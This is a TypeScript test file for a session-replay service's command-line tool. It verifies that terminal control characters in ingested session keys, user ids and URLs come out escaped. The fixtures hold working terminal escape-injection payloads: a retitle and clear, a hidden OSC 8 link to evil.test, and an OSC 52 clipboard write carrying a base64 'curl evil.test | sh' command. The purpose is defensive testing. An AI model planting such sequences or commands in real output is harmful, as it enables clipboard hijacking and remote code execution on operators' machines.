/**
 * Text from the server reaches the terminal with its control characters
 * escaped. Session keys, user ids and URLs come from unauthenticated ingest
 * (anyone with a site's public key), so a visitor could otherwise retitle an
 * operator's terminal, clear it, write their clipboard (OSC 52) or hide a
 * link behind innocent text. Ingested through the real service, listed with
 * the CLI the server serves, as a pipe and on a pseudo-terminal (colours on).
 */
import { spawn } from 'node:child_process'
import { existsSync } from 'node:fs'
import t from 'tap'
import { CLI_NODE, cliEnv, cliSetup } from '../helpers/cli.js'
import { clusterFor } from '../helpers/cluster.js'
import { postChunk } from '../helpers/read.js'

const cluster = await clusterFor(t, { workers: 1 })

const SK = 'evil\x1b]0;pwned\x07\x1b[2J\x1b[H'
const USER = `u\x1b]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07`
const URL = 'https://shop.test/\x1b]8;;https://evil.test/\x1b\\pricing\x1b]8;;\x1b\\\x9b2J\x7f\r'
/** Raw control bytes other than the line feed: none may reach a terminal from the server's strings. */
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/

/** JSON with every character outside printable ASCII as \u escapes: the header must be ASCII, as a tracker's JSON.stringify makes it for C0. */
const asciiJson = (value: unknown) => JSON.stringify(value).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)

t.test('sessions list escapes ESC, OSC, BEL, C1 and DEL in keys, user ids and URLs; --json keeps them as JSON', async (t) => {
  const { seeded, home, cli, svc } = await cliSetup(t, cluster)
  const env = { SVC_API_KEY: seeded.apiKey }
  const now = Date.now()
  const meta = { sk: SK, vid: 'v-evil', seq: 0, pageIndex: 0, url: URL, eventCount: 1, encoding: 'json', startedAt: now - 5000, firstTs: now - 5000, lastTs: now, identity: { userId: USER } }
  const res = await fetch(`${cluster.url}/api/v1/ingest?pk=${seeded.project.publicKey}`, {
    method: 'POST',
    headers: { 'x-svc-meta': asciiJson(meta), 'content-type': 'application/octet-stream' },
    body: '[{"type":3,"timestamp":1,"data":{}}]',
  })
  await res.arrayBuffer()
  t.equal(res.status, 200, 'ingest accepts them: they are just strings')

  const json = await svc(['sessions', 'list', seeded.project.id, '--json'], { env })
  t.equal(json.code, 0, json.stderr)
  t.match(json.json.sessions, [{ sessionKey: SK, identity: { userId: USER }, entryUrl: URL }], '--json gives the strings as they are, JSON-escaped')

  const piped = await svc(['sessions', 'list', seeded.project.id], { env })
  t.equal(piped.code, 0, piped.stderr)
  t.notMatch(piped.stdout + piped.stderr, RAW_CONTROL, 'no raw control byte in the table')
  t.match(piped.stdout, 'evil\\x1b]0;pwned\\x07\\x1b[2J\\x1b[H', 'the session key, escaped')
  t.match(piped.stdout, 'u\\x1b]52;c;', 'the user id: the clipboard write shown, not done')
  t.match(piped.stdout, '\\x1b]8;;https://evil.test/\\x1b\\pricing', 'the URL: the hidden link shown')
  t.match(piped.stdout, '\\u009b2J\\x7f\\x0d', 'C1, DEL and carriage return escaped too')
  t.equal(piped.stdout.trimEnd().split('\n').length, 2, 'one header and one row: nothing broke the table\'s lines')

  t.test('on a terminal, with colours', { skip: existsSync('/usr/bin/script') ? false : 'needs script(1) for a pseudo-terminal' }, async (t) => {
    const command = ['/usr/bin/env', '-u', 'NODE_OPTIONS', CLI_NODE, cli, 'sessions', 'list', seeded.project.id].map((w) => `'${w}'`).join(' ')
    const screen = await new Promise<string>((resolve, reject) => {
      const child = spawn('/usr/bin/script', ['-qec', command, '/dev/null'], { env: cliEnv(home, { TERM: 'xterm', ...env }), stdio: ['pipe', 'pipe', 'pipe'] })
      let text = ''
      child.stdout.on('data', (chunk: Buffer) => (text += chunk.toString()))
      child.once('error', reject)
      child.once('close', () => resolve(text))
      child.stdin.end()
    })
    t.match(screen, /\x1b\[1mSESSION/, 'the header is bold: colours still work')
    // What is left once the CLI's own colour codes and the terminal's line ends are taken out.
    const rest = screen.replace(/\x1b\[(1|2|22|31|32|33|39)m/g, '').replace(/\r\n/g, '\n')
    t.notMatch(rest, RAW_CONTROL, 'no other control byte reaches the terminal')
    t.match(rest, 'evil\\x1b]0;pwned\\x07')
  })
})
